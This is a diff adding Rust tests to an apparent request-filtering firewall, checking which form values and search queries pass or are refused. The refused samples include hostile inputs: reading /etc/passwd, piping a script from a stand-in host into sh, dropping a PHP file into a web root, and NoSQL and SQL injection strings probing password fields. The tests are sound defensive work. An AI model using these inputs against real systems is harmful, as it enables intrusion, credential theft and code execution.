@@ -174,3 +174,54 @@ fn forms_of_honest_clients_pass() {
     is_refused(&form("name=\"f\"; filename=\"a.txt; filename=b.php\"", "x"));
     is_refused(&form("name=\"f; name=g\"", "x"));
 }
+
+#[test]
+fn lists_of_commands_in_texts_pass() {
+    for value in [
+        "Hello, please do this on your machine:\nsudo apt install -y nginx\nthen tell me",
+        "<p>Install it like this on your machine:</p><pre><code>sudo apt update && sudo apt install -y x</code></pre>",
+        "#!/bin/bash\nfor f in *.txt; do wc -l \"$f\"; done",
+        "A script counts the lines of a file:\n\nlines=$(wc -l < \"$name\")\necho \"$lines\"\n",
+        "FROM logs-*\n| EVAL a = COALESCE(b, c)\n| WHERE host.os.type == \"macos\" and a >= 2\n| KEEP a",
+        "process.command_line in (\n  \"/bin/sh /var/lib/x/a.postinst configure\",\n  \"bash -l\"\n)",
+    ] {
+        passes(&get(value));
+    }
+    for value in [
+        "Hello my dear friend\ncat /etc/passwd",
+        "Hello my dear friend\ncurl http://drop.example/a.sh | sh",
+        "Hello my dear friend\nsed -i s/a/b/ /etc/nginx/nginx.conf",
+        "Hello my dear friend\necho x > /var/www/html/x.php",
+        "8.8.8.8\nls -la",
+        "x\n| cat /etc/passwd",
+        "for i in (\n\"a\",\ncat /etc/passwd",
+    ] {
+        is_refused(&get(value));
+    }
+}
+
+#[test]
+fn queries_and_filters_of_interfaces_pass() {
+    let search = |query: &str| format!("GET /search?{query} HTTP/1.1\r\nHost: shop.example\r\n\r\n");
+    for query in [
+        "select&select-type=2",
+        "%24limit=10&status%5B%24ne%5D=void&age%5B%24gte%5D=18",
+        "q=%22heart+failure%22+AND+%28select*+OR+choos*%29",
+        "q=site+~+%22O%27Hara%22+and+type+in+%28%22page%22%29+and+changed+%3E%3D+now%28%22-4w%22%29",
+        "q=sum%28active%29+%2F+count%28active%29+%3E+0.5+and+count%28active%29+%3E+0",
+        "until=4294967296",
+    ] {
+        passes(&search(query));
+    }
+    for query in [
+        "user%5B%24ne%5D=void",
+        "password%5B%24ne%5D=void",
+        "status%5B%24regex%5D=.*",
+        "q=1+and+%28select*from+users%29",
+        "q=name+and+length%28password%29+%3E+5",
+        "q=1+and+count%28password%29+%3E+5",
+        "n=4294967296",
+    ] {
+        is_refused(&search(query));
+    }
+}
